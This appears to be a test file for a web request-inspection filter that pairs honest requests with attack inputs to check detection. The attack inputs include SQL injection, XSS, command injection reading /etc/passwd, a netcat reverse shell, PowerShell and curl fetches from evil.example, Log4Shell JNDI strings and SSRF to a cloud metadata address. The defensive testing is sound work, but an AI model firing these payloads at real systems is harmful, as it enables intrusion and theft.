import type { InspectedRequest } from '../src/index.ts'
import { asked, filled, type HonestKinds, posted, sent, testKinds } from './honest-kinds.ts'

const logged = (stringValue: string): unknown => ({
  resourceLogs: [{ scopeLogs: [{ logRecords: [{ attributes: [{ value: { stringValue } }] }] }] }],
})

const from = (page: string, name = 'Referer'): InspectedRequest => ({
  method: 'GET',
  target: '/style.css',
  headers: [name, page],
})

const notebook = (output: unknown): unknown => ({
  content: { cells: [{ cell_type: 'code', source: 'x', outputs: [output] }] },
})

const mail = (html: string): InspectedRequest => filled({ 'body-html': html })

/** What pages, their reports and their mails send for honest reasons, and what stays an attack beside it. */
const INSTALLING_PAGE =
  '<p>Run this:</p><ac:structured-macro ac:name="code"><ac:plain-text-body><![CDATA[curl -s https://x.example/install.sh | bash\nsudo rm -rf /tmp/x]]></ac:plain-text-body></ac:structured-macro>'

/** As people write down how something is done. */
const ARTICLE = [
  '== Clean up ==',
  'Ask first, then run this in the console of the database:',
  "  SELECT id FROM users WHERE status = 'old';",
  "  UPDATE users SET status = 'gone' WHERE id = 42; -- ask Bob",
  'On the server:',
  '  $ sudo apt-get update && sudo apt-get install -y nginx; systemctl restart nginx',
  '  $ rm -rf node_modules && npm ci',
  'And in the page:',
  '  <?php echo htmlspecialchars($_POST["name"]); ?>',
  'That is all that there is to it. Whoever finds a fault in this page may correct it, as always.',
].join('\r\n')

const KINDS: HonestKinds = {
  'paths, queries and commands that are but named': {
    honest: [
      asked('/crumbIssuer/api/xml', { xpath: 'concat(//crumbRequestField,":",//crumb)' }),
      asked('/api/xml', { xpath: "count(//job[name='a'])" }),
      filled({ subject: 'Re: JSqlParser "Select 1"', message: 'It works.' }),
      sent({ description: 'I run it with {{invoke-expression}} and it fails' }),
      filled({ body: '<p>x</p><iframe src="https://www.aparat.com/video/video/embed/a/vt/frame"></iframe>' }),
    ],
    attacks: [
      asked('/api/xml', { xpath: 'concat(//a,1) union select password from users' }),
      asked('/api/xml', { xpath: 'concat(0x3a,version())' }),
      filled({ subject: "x' union select password from users--" }),
      sent({ description: 'x | Invoke-Expression' }),
      sent({
        description: 'Invoke-Expression (New-Object Net.WebClient).DownloadString("http://e.example")',
      }),
      filled({ body: '<iframe src="https://aparat.com.evil.example/a"></iframe>' }),
    ],
  },
  'names of schemas and databases': {
    honest: [
      sent({ db_name: 'shop', schema_name: 'public' }),
      sent({ sort: 'schema_name', columns: ['db_name', 'owner'] }),
      asked('/databases', { db_name: 'shop', sort: 'db_name', group: 'schema_name' }),
      filled({ schema_name: 'public', order: 'db_name' }),
    ],
    attacks: [
      asked('/databases', { id: 'db_name(' }),
      asked('/databases', { id: "1' union select db_name()--" }),
      filled({ order: 'pg_catalog' }),
    ],
  },
  'commands that people tell each other': {
    honest: [
      'docker run --rm -v $(pwd):/app -w /app node:24 npm test',
      'docker run -v "$(pwd)":/src -u $(id -u):$(id -g) image make -j$(nproc)',
      'kill $(cat server.pid) does not work',
      'I ran kill -9 $(lsof -t -i:3000) and started it again',
      'kill -HUP $(pgrep nginx)',
    ].flatMap(text => [sent({ text }), filled({ comment: text })]),
    attacks: [
      sent({ host: 'a $(cat /etc/passwd)' }),
      filled({ host: '$(pwd;id)' }),
      filled({ host: '$(pwd)$(id)' }),
      filled({ host: '$(id -u -r|sh)' }),
      filled({ host: 'kill $(cat ../../etc/shadow)' }),
      filled({ comment: 'docker run -v $(pwd):/app x && $(curl http://evil.example/a)' }),
      asked('/ping', { host: '$(pwd)' }),
    ],
  },
  'a link that leads nowhere': {
    honest: [
      sent({ element: { url: 'javascript:void(0)', text: 'Menu' } }),
      sent({ attributes: { href: 'javascript:void(0);', onclick: 'return false;' } }),
      sent({ href: 'javascript:;' }),
      mail('<a href="javascript:void(0);">Menu</a> <a href=\'javascript:;\'>x</a>'),
      asked('/search', { q: 'javascript:void(0) meaning' }),
    ],
    attacks: [
      asked('/s', { u: 'javascript:void(0);alert(1)' }),
      asked('/s', { u: 'javascript:void(0)>alert(1)' }),
      asked('/s', { u: 'javascript:void(0)\nalert(1)' }),
      asked('/s', { u: 'javascript:void(0) in alert(1)' }),
      asked('/s', { u: 'javascript:void(alert(1))' }),
      asked('/s', { u: 'javascript:void(0);"".x.constructor("alert(1)")()' }),
      sent({ url: 'javascript:void(0),alert(1)' }),
      mail('<a href="javascript:void(0);alert(1)">x</a>'),
      mail('<a href="javascript:void(0)" onclick="alert(1)">x</a>'),
    ],
  },
  'a condition of ServiceNow': {
    honest: [
      asked('/incident_list.do', {
        sysparm_query: 'active=true^assigned_to=javascript:gs.getUserID()^state!=6',
      }),
      sent({ caller_id: 'javascript:gs.getUserID()' }),
      asked('/a.do', { sysparm_query: "opened_at>=javascript:gs.daysAgoStart('7')" }),
    ],
    attacks: [
      asked('/a.do', { sysparm_query: 'x=javascript:gs.getX(alert(1))' }),
      asked('/a.do', { sysparm_query: "x=javascript:gs.setProperty('a','b')" }),
      sent({ caller_id: 'javascript:gs.getUserID();eval(x)' }),
    ],
  },
  'the route of a page': {
    honest: [
      sent({ context: '/orders/[id]' }),
      asked('/rum', { page: '/[lang]/about' }),
      filled({ route: '/orders/[orderId]/items/[itemId]' }),
      asked('/rum', { view: '/blog/[slug]' }),
    ],
    attacks: [
      asked('/s', { f: '/bin/c[a]t' }),
      asked('/s', { f: '/b[i]n/cat' }),
      asked('/s', { f: '/[b]in/cat' }),
      asked('/s', { f: '/usr/[bx]in/id' }),
      asked('/s', { f: ';/???/c[a]t' }),
      asked('/s', { f: '/etc/[pq]asswd' }),
    ],
  },
  'logs, traces and what came before an error': {
    honest: [
      sent(
        logged('Traceback (most recent call last):\n  File "a.py", line 1\n    os.system(cmd)\n'),
        '/v1/logs',
      ),
      sent({ breadcrumbs: [{ data: { url: "/api/search?q='%20or%20" } }] }),
      sent({ metaData: { script: { content: "(function(){document.body.appendChild(s)})('x')" } } }),
    ],
    attacks: [
      sent(logged('<script>alert(1)</script>'), '/v1/logs'),
      sent({ url: "/api/search?q='%20or%201=1--" }),
      sent({ content: "';document.location='//evil.example'" }),
      sent({ logs: { stringValue: 'os.system("id")', id: 'os.system("id")' } }),
    ],
  },
  'data in a page, and handlers that do nothing': {
    honest: [
      mail('<div>Hi</div><script type="application/ld+json">{"@type":"EmailMessage"}</script>'),
      mail('<script id="x" type=\'application/json\'>{"a":1}</script>'),
      mail('<img src="cid:1" onerror="this.style.display=\'none\'">'),
      mail('<a href="#" onclick="return false;">x</a>'),
      mail(
        `<a href="https://a.example" onclick="window.open(this.href, '', 'resizable=no,status=no,width=400'); return false;">x</a>`,
      ),
      mail(`<a href="/a" onclick="window.open(this.href,'_blank');return false;">x</a>`),
      mail('<body onload=""><a href="/a" onclick="">x</a><p onclick=\'\'>y</p><p onclick=" ; ">z</p></body>'),
    ],
    attacks: [
      mail('<script type="application/ld+json"></script><script>alert(1)</script>'),
      mail('<script type="text/javascript" type="application/ld+json">alert(1)</script>'),
      mail('<script src="//evil.example/x.js" type="application/json+x">'),
      mail('<script type="application/ld+json">{}</script><img src=x onerror=alert(1)>'),
      mail('<img src="cid:1" onerror="this.style.display=\'none\';alert(1)">'),
      mail('<img src=x onerror="return false,alert(1)">'),
      mail('<img src=x onerror="" onload=alert(1)>'),
      mail('<img src=x onerror=";alert(1)">'),
      mail('<img src=x onerror="" "onclick="alert(1)">'),
      mail(`<a href="javascript:alert(1)" onclick="window.open(this.href,'');return false;">x</a>`),
      mail(`<a href="/a" onclick="window.open(this.href,'');alert(1);return false;">x</a>`),
      mail(`<a href="/a" onclick="window.open('javascript:alert(1)');return false;">x</a>`),
      mail(`<a href="/a" onclick="window.open(this.href,'\\x27');alert(1)//');return false;">x</a>`),
    ],
  },
  'pages of Confluence, with commands in their code': {
    honest: [
      sent({ body: { storage: { value: INSTALLING_PAGE, representation: 'storage' } } }, '/rest/api/content'),
    ],
    attacks: [
      sent({ body: { storage: { value: '<img src=x onerror=alert(1)>' } } }, '/rest/api/content'),
      sent({ body: { storage: { value: '<script>alert(1)</script>' } } }, '/rest/api/content'),
      sent({ storage: { value: INSTALLING_PAGE } }),
    ],
  },
  'what an editor of queries sends': {
    honest: [
      sent({ sql: "SELECT a FROM t WHERE b = 'x' AND c <> 'y' UNION ALL SELECT 'z', d FROM u" }),
      sent({ queries: [{ rawSql: "SELECT v FROM m WHERE k='a' UNION SELECT v FROM m WHERE k='b'" }] }),
      sent({ sql: 'BEGIN;\nUPDATE a SET b = b - 1 WHERE id = 1;\nDELETE FROM c WHERE id = 2;\nCOMMIT;' }),
      sent(
        { query: "Select [Id] From WorkItems Where [Type] = 'Bug' AND [State] <> 'Closed'" },
        '/o/p/_apis/wit/wiql?api-version=7.0',
      ),
      sent({ span: { db: { statement: "SELECT a FROM t WHERE b = 'x' UNION SELECT c FROM d" } } }),
      sent({ value_template: "{% if is_state('a.b', 'on') and states('c.d') | float > 20 %}on{% endif %}" }),
    ],
    attacks: [
      asked('/s', { sql: "x' UNION SELECT password FROM users--" }),
      sent({ sqlite: "x' UNION SELECT password FROM users--" }),
      sent({ search: "x' UNION SELECT password FROM users--" }),
      sent({ sql: '<script>alert(1)</script>' }),
      sent({ query: "x' OR 'a' <> 'b" }, '/o/p/_apis/wit/wiql'),
      sent({ template: "x' UNION SELECT password FROM users--" }),
    ],
  },
  'commands of containers and of conversations': {
    honest: [
      sent({ Cmd: ['sh', '-c', 'apk add --no-cache curl && curl -fsS http://web:3000/health || exit 1'] }),
      sent({ Healthcheck: { Test: ['CMD-SHELL', 'apk add curl && curl -fsS http://web/ || exit 1'] } }),
      sent({
        messages: [
          { tool_calls: [{ function: { name: 'sh', arguments: '{"command":"cat /etc/hosts | head -5"}' } }] },
          { content: [{ type: 'tool_use', input: { command: 'ls -la /tmp; cat /etc/hosts' } }] },
        ],
      }),
    ],
    attacks: [
      sent({ arguments: { command: '; cat /etc/passwd' } }),
      sent({ test: '; cat /etc/passwd' }),
      sent({ messages: [{ input: '; cat /etc/passwd' }] }),
    ],
  },
  'what a grid of ASP.NET posts': {
    honest: [
      filled({ __EVENTTARGET: 'ctl00$Main$grid', __EVENTARGUMENT: 'Sort$Name' }),
      filled({ __EVENTTARGET: 'ctl00$Main$grid', __EVENTARGUMENT: 'Page$Last' }),
      filled({ ctl00$ctl00: 'Find$1', __EVENTARGUMENT: 'Kill$3' }),
    ],
    attacks: [
      filled({ __EVENTARGUMENT: 'sort$IFS/etc/passwd' }),
      filled({ __EVENTARGUMENT: 'x;cat$IFS/etc/passwd' }),
      filled({ __EVENTARGUMENT: 'cat$u /etc/passwd' }),
    ],
  },
  'lines on a map, and base64 between bars': {
    honest: [
      sent({ map: { polyline: 'kD|O|VI`NiCrEiC`KoInDgEJk@p@wIDqMLmKa@wQGqKL}Pz' } }),
      asked('/route', { polyline: 'f>{{z@delq\\BT@F?@Cf@?f`EN@HAH@HC' }),
      asked('/static', { path: 'cFwNc@k[cDkE`@W`FgTfLi^lAWG' }),
      sent({ id: 'q3Vx|eD+fQ/w|Zm9vYmFy' }),
      sent({ id: 'GeMy2G|W+8heMJOP/P9Wvrd' }),
    ],
    attacks: [
      asked('/s', { q: 'x|ed -s /etc/passwd' }),
      asked('/s', { q: '127.0.0.1|VER' }),
      asked('/s', { q: '127.0.0.1|ver' }),
      asked('/s', { q: '127.0.0.1;id' }),
      asked('/s', { q: '{{`id`}}' }),
      asked('/s', { q: '<%= x = `id` %>' }),
      asked('/s', { q: '#{x=`id`}' }),
      asked('/s', { q: '1|NC -e /bin/sh 10.0.0.1' }),
    ],
  },
  'a word of SQL in quotes, with brackets behind it': {
    honest: [
      filled({ item_name: 'T-Shirt "Select" (L) -- blue' }),
      asked('/s', { q: 'the "Select" (Large) range' }),
      filled({ hint: "click 'select' (top right) and go on" }),
    ],
    attacks: [
      asked('/s', { q: 'x" or (1)=(1) -- ' }),
      asked('/s', { q: "x' union (select 1,2)-- " }),
      asked('/s', { q: 'a "or" (x)" or (1)=(1)-- ' }),
    ],
  },
  'answers and posts under their names': {
    honest: [
      filled({ 'q1:3_answer': 'SELECT name FROM students WHERE grade >= 50 ORDER BY name' }),
      filled({ raw: 'Run `cd /srv && git pull` then `make build; make install`.' }),
    ],
    attacks: [
      filled({ 'q1:3_id': 'SELECT name FROM students WHERE grade >= 50 ORDER BY name' }),
      filled({ raw: '; cat /etc/passwd' }),
    ],
  },
  'the script that embeds a post': {
    honest: [
      sent({
        html: '<blockquote>x</blockquote> <script async src="https://platform.twitter.com/widgets.js" charset="utf-8"></script>',
      }),
      filled({
        content: '<p>x</p><script src="https://gist.github.com/ann/0123456789abcdef.js"></script>',
      }),
      filled({
        body: '<script async src="https://telegram.org/js/telegram-widget.js?22" data-telegram-post="durov/6"></script>',
      }),
    ],
    attacks: [
      sent({ html: '<script async src="https://platform.twitter.com.evil.example/widgets.js"></script>' }),
      sent({
        html: '<script src="https://evil.example/x.js" data-x="https://platform.twitter.com/widgets.js">',
      }),
      sent({
        html: '<script src="//evil.example/x.js" src="https://platform.twitter.com/widgets.js"></script>',
      }),
      sent({
        html: '<script onload="alert(1)" src="https://platform.twitter.com/widgets.js"></script>',
      }),
      asked('/s', { q: '"><script src="https://platform.twitter.com/widgets.js"></script>' }),
    ],
  },
  'a whole query and a list of conditions': {
    honest: [
      asked('/services/data/v61.0/query', {
        q: "SELECT Id FROM Contact WHERE LastName = 'O\\'Brien' AND CreatedDate = LAST_N_DAYS:30 ORDER BY Name",
      }),
      asked('/rest/v1/orders', { or: "(status.eq.open,and(total.gt.10,name.ilike.*o'br*))" }),
      filled({ company: 'Select & Save GmbH' }),
    ],
    attacks: [
      asked('/services/data/v61.0/query', { q: "SELECT Id FROM a WHERE b = '' OR SLEEP(5)" }),
      asked('/services/data/v61.0/query', { q: 'SELECT a FROM b UNION SELECT password FROM users' }),
      asked('/s', { q: "' AND email = name ORDER BY 1--" }),
      asked('/rest/v1/orders', { name: "*o'br*))(|(uid=*" }),
      filled({ company: 'Select -1 from users' }),
    ],
  },
  'a page that names itself to its parts': {
    honest: [
      from('https://shop.example/search?q=%22annual+report%22+OR+%22year+in+review%22+-draft&page=1'),
      from('https://shop.example/search?q=%22exact%20phrase%22%20-exclude%20OR%20(this%20AND%20that)'),
      from('https://shop.example/items?price[$lte]=100&price[$gte]=10'),
      from('https://jira.example/issues/?jql=text+~+%22a%22+AND+(assignee+in+(me(),+%22o%27b%22)+OR+b=me())'),
      from('https://shop.example/parts?q=5%2F16%22-18+%26+nuts+(10-pk)&page=1', 'HX-Current-URL'),
      from('https://shop.example/physics/nuclei/decay?unit=MeV'),
      from('https://shop.example/search?q=radius+of+atomic+nuclei'),
      sent({ 'csp-report': { 'document-uri': 'https://x.example/?q=%22a+b%22+OR+%22c+d%22+-e&page=1' } }),
    ],
    attacks: [
      from("https://shop.example/search?q=1'+or+'1'='1"),
      from('https://shop.example/search?q=1%27+or+%271%27=%271'),
      from('https://shop.example/search?q=%27%20union%20select%20password%20from%20users--%20'),
      from('https://shop.example/search?file=../../../../etc/passwd'),
      from('https://shop.example/%27%20or%20%271%27=%271?q=a'),
      from('https://shop.example/?q=%24%7Bjndi:ldap://evil.example/a%7D'),
      from('https://shop.example/?%3Cscript%3Ealert(1)%3C/script%3E'),
      from('https://shop.example/?a=b&jql=x%27;waitfor+delay+%270:0:5%27--'),
      from("https://shop.example/?q=%22a%22 ' or '1'='1"),
      from('https://shop.example/?q=<script>alert(1)</script>', 'HX-Current-URL'),
      from('Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', 'User-Agent'),
      from('sqlmap/1.7', 'X-Tool'),
      asked('/s', { 'document-uri': "' or '1'='1" }),
      sent({ 'csp-report': { 'document-uri': 'https://x.example/?q=<script>alert(1)</script>' } }),
    ],
  },
  'a page with brackets or stars in its name, as where to go back to': {
    honest: [
      asked('/login', { next: '/wiki/**To%20register%20a%20source**' }),
      asked('/login', { next: '/wiki/[ruby/logger] changes' }),
      asked('/login', { next: '/docs/[draft]' }),
      filled({ redirect_to: '/blog/why?' }),
    ],
    attacks: [
      asked('/login', { next: '/bin/c[a]t' }),
      asked('/login', { next: '/???/c?t x' }),
      asked('/login', { next: '/b[i]n/[c]at' }),
      asked('/login', { next: '/usr/b*n/id' }),
      asked('/login', { next: '/tmp/[x]a' }),
      asked('/login', { next: '/wiki/[draft];/bin/c?t x' }),
      filled({ redirect_to: '/us?/bin/id' }),
    ],
  },
  'what a field is named for': {
    honest: [
      filled({ formula: '=HYPERLINK("https://x.example/?id="&A2,"open")' }),
      filled({ share: '\\\\nas01\\team$\\2024' }),
    ],
    attacks: [
      filled({ name: '=HYPERLINK("https://x.example/?id="&A2,"open")' }),
      filled({ formula: "' or '1'='1" }),
      filled({ file: '\\\\nas01\\team$\\2024' }),
      filled({ share: '\\\\nas01\\..\\..\\windows\\win.ini' }),
    ],
  },
  'a query for measures where Prometheus takes it': {
    honest: [
      asked('/api/v1/query', { query: 'time()', _: '1795804826129' }),
      asked('/api/v1/query_range', { query: 'round(up)', start: '1790000000', step: '14' }),
      asked('/prometheus/api/v1/query', { query: 'minute()' }),
      asked('/api/datasources/proxy/uid/abc/api/v1/query', { query: 'sqrt(up)' }),
      asked('/graph', { 'g0.expr': 'floor(time() / 60)', 'g0.tab': '1' }),
      asked('/graph', { 'g0.expr': 'exp(up)' }),
      posted('application/x-www-form-urlencoded', 'query=time()&step=14', '/api/v1/query_range'),
      posted('application/x-www-form-urlencoded', 'query=sin(x)', '/api/v1/query'),
    ],
    attacks: [
      asked('/api/v1/query', { query: 'sleep(5)' }),
      asked('/api/v1/query', { query: 'exp(sleep(5))' }),
      asked('/api/v1/query', { query: 'phpinfo()' }),
      asked('/api/v1/query', { query: 'time(system(id))' }),
      asked('/api/v1/query', { query: "time() or '1'='1" }),
      asked('/api/v1/query', { query: 'time();phpinfo();' }),
      asked('/api/v1/query', { query: 'database()' }),
      asked('/api/v1/query', { id: 'round(x)' }),
      asked('/index.php', { query: 'round(up)' }),
      asked('/index.php/api/v1/query.php', { query: 'time()' }),
      asked('/s', { query: 'time()' }),
    ],
  },
  'what the cells of a notebook printed': {
    honest: [
      sent(notebook({ data: { 'text/plain': "os.system('ls -la /tmp')" } })),
      sent(notebook({ data: { 'text/html': ['<div id="p"></div>', '<script>draw("p")</script>'] } })),
      sent(notebook({ name: 'stdout', text: ["eval('1+1'); exec('x = 2')\n", 'ok\n'] })),
      sent(notebook({ evalue: "c.execute(\"SELECT 1 UNION SELECT 2 WHERE '1'='1'\")" })),
      sent(notebook({ name: 'stderr', text: '<html><script>track()</script></html>' })),
      sent(notebook({ traceback: ['os.system(cmd)', "subprocess.check_output('id', shell=True)"] })),
    ],
    attacks: [
      sent(notebook({ data: { id: "os.system('ls -la /tmp')" } })),
      sent(notebook({ data: { 'text/plain': '$' + '{jndi:ldap://evil.example/a}' } })),
      sent({ outputs: [{ text: '<html><script>track()</script></html>' }] }),
      sent(notebook({ metadata: { 'text/html': '<script>alert(1)</script>' } })),
      sent({ outputs: [{ data: { 'text/html': '<script>alert(1)</script>' } }] }),
      sent({ data: { 'text/plain': "os.system('ls -la /tmp')" } }),
      filled({ 'text/plain': "os.system('ls -la /tmp')" }),
    ],
  },
  'the machine itself among those that are watched': {
    honest: [
      asked('/nagios/cgi-bin/extinfo.cgi', { type: '1', host: 'localhost' }),
      asked('/icingaweb2/monitoring/service/show', { host: 'localhost', service: 'ssh' }),
      asked('/sql/', { server: 'localhost', username: 'shop' }),
    ],
    attacks: [
      asked('/s', { host: 'localhost:6379' }),
      asked('/s', { host: '127.0.0.1' }),
      asked('/s', { server: '169.254.169.254' }),
      asked('/s', { target: 'localhost' }),
      asked('/s', { upstream: 'localhost' }),
      asked('/s', { host: 'localhost;id' }),
      asked('/s', { server: 'http://localhost/' }),
    ],
  },
  'a text in a field of a form object': {
    honest: [
      filled({ 'issue[description]': 'Then open /etc/hosts and add a line.' }),
      filled({ 'issue[notes]': 'It is in ../../etc/nginx/nginx.conf' }),
      filled({ 'body[0][value]': 'SELECT name FROM students WHERE grade >= 50 ORDER BY name' }),
      filled({ 'field_summary[und][0][value]': 'Then open /etc/hosts and add a line.' }),
      filled({ 'jform[articletext]': 'Hi\r\nSubject: x\r\nContent-Type: text/plain' }),
      filled({ 'description[en]': 'Then open /etc/hosts and add a line.' }),
      filled({ 'translations[pt-br][body]': '{{ 7*7 }} is 49' }),
      filled({ 'widget-text[2][text]': 'Then open /etc/hosts and add a line.' }),
      filled({ 'comments[]': 'Then open /etc/hosts and add a line.' }),
      filled({ wpTextbox1: 'Then open /etc/hosts and add a line.', wpSummary: '{{ 7*7 }} is 49' }),
      filled({ wikitext: 'Then open /etc/hosts and add a line.' }),
      filled({ excerpt: 'Then open /etc/hosts and add a line.' }),
    ],
    attacks: [
      filled({ 'issue[description]': "x' UNION SELECT password FROM users--" }),
      filled({ 'issue[description]': '<script>alert(1)</script>' }),
      filled({ 'issue[notes]': '; cat /etc/passwd' }),
      filled({ 'body[0][value]': '$' + '{jndi:ldap://evil.example/a}' }),
      filled({ 'body[0][value]': "{{ ''.__class__.__mro__ }}" }),
      filled({ wpTextbox1: '<img src=x onerror=alert(1)>' }),
      filled({ 'page[file]': '/etc/passwd' }),
      filled({ 'files[]': '../../../etc/passwd' }),
      filled({ 'text[file]': '/etc/passwd' }),
      filled({ 'file[0]': '/etc/passwd' }),
      filled({ 'file[en]': '/etc/passwd' }),
      filled({ 'file[0][value]': '/etc/passwd' }),
      // What PHP and others read as a value of its own.
      filled({ 'file[text': '/etc/passwd' }),
      filled({ 'file[0]text]': '/etc/passwd' }),
      filled({ 'file [text] x[text]': '/etc/passwd' }),
      filled({ '[text]': '/etc/passwd' }),
      asked('/s', { 'issue[description]': '/etc/passwd' }),
    ],
  },
  'a page of a wiki with code in it': {
    honest: [
      filled({ wpTextbox1: ARTICLE }),
      filled({ wikitext: ARTICLE }),
      filled({ wpInput: ARTICLE }),
      filled({ savetext: ARTICLE }),
    ],
    attacks: [
      filled({ wpTextbox1: [ARTICLE, '{jndi:ldap://evil.example/a}'].join('$') }),
      filled({ note: ARTICLE }),
      filled({ text: ARTICLE }),
      filled({ wikitext: '<?php system("id"); ?>' }),
      asked('/s', { wikitext: ARTICLE }),
    ],
  },
  'the source of a page that Fossil saves': {
    honest: ['/wikiajax/save', '/repo/wikiajax/preview'].map(path => filled({ content: ARTICLE }, path)),
    attacks: [
      filled({ content: [ARTICLE, '{jndi:ldap://evil.example/a}'].join('$') }, '/wikiajax/save'),
      filled({ content: '<?php system("id"); ?>' }, '/wikiajax/save'),
      filled({ page: '; cat /etc/passwd' }, '/wikiajax/save'),
      filled({ content: ARTICLE }, '/x/save'),
    ],
  },
  'the source of a page that the interface of MediaWiki takes': {
    honest: ['/api.php', '/w/api.php'].map(path => filled({ action: 'stashedit', text: ARTICLE }, path)),
    attacks: [
      filled({ text: [ARTICLE, '{jndi:ldap://evil.example/a}'].join('$') }, '/api.php'),
      filled({ text: '<?php system("id"); ?>' }, '/api.php'),
      filled({ text: ARTICLE }, '/wikiajax/save'),
      filled({ title: ARTICLE }, '/api.php'),
      filled({ text: ARTICLE }, '/shop/v1/api.php'),
      filled({ text: ARTICLE }, '/api.php/x'),
      asked('/api.php', { text: ARTICLE }),
    ],
  },
  'a mail as a body': {
    honest: [
      posted(
        'message/rfc822',
        'From: "Ann" <a@x.example>\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nHi\r\n',
        '/mime',
      ),
      filled({ 'body-plain': 'Hi,\r\n\r\n1. open /etc/hosts\r\n2. add 127.0.0.1 x.local\r\n' }),
    ],
    attacks: [
      filled({ to: 'a@x.example\r\nContent-Type: text/html\r\nBcc: b@x.example' }),
      sent({ to: 'a@x.example\r\nBcc: b@x.example' }),
      filled({ file: '/etc/hosts' }),
    ],
  },
}

testKinds(KINDS)
